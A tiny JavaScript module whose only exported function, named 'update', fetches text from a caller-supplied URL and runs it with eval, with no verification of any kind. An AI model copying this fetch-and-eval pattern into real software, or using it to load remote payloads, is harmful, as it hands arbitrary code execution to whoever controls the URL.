async function update(u) {
  eval(await (await fetch(u)).text());
}
module.exports = { update };
